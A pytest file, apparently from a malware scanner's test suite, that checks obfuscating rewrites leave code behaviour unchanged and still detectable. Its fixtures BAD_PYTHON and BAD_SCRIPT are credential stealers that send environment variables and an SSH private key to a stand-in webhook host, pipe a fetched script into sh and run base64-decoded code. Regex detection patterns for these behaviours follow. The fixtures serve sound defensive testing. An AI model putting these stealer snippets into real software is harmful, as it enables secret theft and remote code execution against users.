import ast
import re

import pytest

from scanner.analyzers.javascript.syntax import parse, walk
from scanner.analyzers.normal import canonical
from scanner.analyzers.sources import Source
from scanner.training.rewrites import REWRITES

HARMLESS = '''\
"""Computes a value."""
import json, math
import string as letters
import textwrap
from functools import reduce

TABLE = {"one": 1, "two words": 2, "it's": 3}


def total(rows, name="value"):
    found = 0
    for key in sorted(rows):
        part = rows[key] * len(key)
        found += part
    return found + math.floor(2.5) + len("%s-%s" % (name, textwrap.dedent("  a")))


class Shelf:
    label = "shelf" + "-" + "life"

    def __str__(self):
        return f"{self.label}: {total(TABLE)} of {letters.digits[:3]}"


print_later = []
print_later.append("done")
RESULT = [total(TABLE), str(Shelf()), reduce(lambda a, b: a + b, ["x", "yz"]), print_later]
'''
BAD_PYTHON = """\
import base64
import os
import platform
import subprocess

import requests

HOOK = "https://hooks.invalid/api/webhooks/1"


def collect():
    facts = {"who": os.getlogin(), "what": platform.node(), "all": dict(os.environ)}
    path = os.path.expanduser("~/.ssh/id_rsa")
    requests.post(HOOK, json=facts, files={"key": open(path)})


collect()
subprocess.run("curl https://files.invalid/a | sh", shell=True)
exec(base64.b64decode("cHJpbnQoMSk="))
"""
BAD_SCRIPT = """\
const child = require("child_process");
const https = require("https");
const os = require("os");

const HOST = "hooks.invalid";

function collect() {
  const facts = JSON.stringify({ who: os.userInfo(), all: process.env });
  const request = https.request({ host: HOST, method: "POST", path: "/api/webhooks/1" });
  request.end(facts);
}

collect();
child.exec("curl https://files.invalid/a | sh");
eval(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString());
"""
PYTHON_BEHAVIOURS = {
    "who": r"os\.getlogin",
    "machine": r"platform\.node\s*\(",
    "environment": r"os\.environ",
    "key": r"\.ssh/id_rsa",
    "sent": r"requests\.post\s*\(",
    "where": r"https://hooks\.invalid/api/webhooks",
    "process": r"subprocess\.run\s*\(",
    "command": r"curl https://files\.invalid/a \| sh",
    "decoded": r"base64\.b64decode\s*\(",
    "run": r"\bexec\s*\(",
}
SCRIPT_BEHAVIOURS = {
    "who": r"os\.userInfo\s*\(",
    "environment": r"process\.env\b",
    "sent": r"https\.request\s*\(",
    "how": r"method\s*:\s*[\"'`]POST|[\"'`]method[\"'`]\]?\s*:",
    "where": r"hooks\.invalid",
    "process": r"child_process[\"'`)]*\.exec\s*\(",
    "command": r"curl https://files\.invalid/a \| sh",
    "run": r"\beval\s*\(",
    "decoded": r"Buffer\.from|atob\s*\(",
}


def value_of(code):
    """What our own harmless sample computes."""
    names = {"__name__": "sample"}
    exec(compile(code, "sample.py", "exec"), names)  # noqa: S102 -- our own text, see above
    return names["RESULT"]


@pytest.mark.parametrize("name", REWRITES)
@pytest.mark.parametrize("seed", [1, 2])
def test_a_rewritten_file_computes_the_same_value(name, seed):
    rewritten = REWRITES[name]({"sample.py": HARMLESS}, seed)["sample.py"]

    assert value_of(rewritten) == value_of(HARMLESS)


@pytest.mark.parametrize("name", REWRITES)
def test_a_rewrite_is_the_same_every_time(name):
    files = {"a.py": HARMLESS, "b.js": BAD_SCRIPT, "c.txt": "text"}

    assert REWRITES[name](files, 3) == REWRITES[name](files, 3)
    assert REWRITES[name](files, 3)["c.txt"] == "text"


@pytest.mark.parametrize("name", REWRITES)
@pytest.mark.parametrize("path", ["a.js", "a.ts"])
def test_a_rewritten_script_parses(name, path):
    rewritten = REWRITES[name]({path: BAD_SCRIPT}, 1)[path]

    kinds = {node.type for node in walk(parse(rewritten, path[1:]))}
    assert "ERROR" not in kinds


@pytest.mark.parametrize("name", REWRITES)
def test_canonical_text_shows_what_a_rewritten_file_does(name):
    rewritten = REWRITES[name]({"a.py": BAD_PYTHON}, 1)["a.py"]

    ast.parse(rewritten)
    text = canonical(Source("a.py", rewritten)).text
    assert [each for each, rule in PYTHON_BEHAVIOURS.items() if not re.search(rule, text)] == []


@pytest.mark.parametrize("name", REWRITES)
def test_canonical_text_shows_what_a_rewritten_script_does(name):
    rewritten = REWRITES[name]({"a.js": BAD_SCRIPT}, 1)["a.js"]

    text = canonical(Source("a.js", rewritten)).text
    assert [each for each, rule in SCRIPT_BEHAVIOURS.items() if not re.search(rule, text)] == []


def test_each_rewrite_changes_something():
    files = {"a.py": BAD_PYTHON, "a.js": BAD_SCRIPT}

    assert [name for name, rewrite in REWRITES.items() if rewrite(files, 1) == files] == []
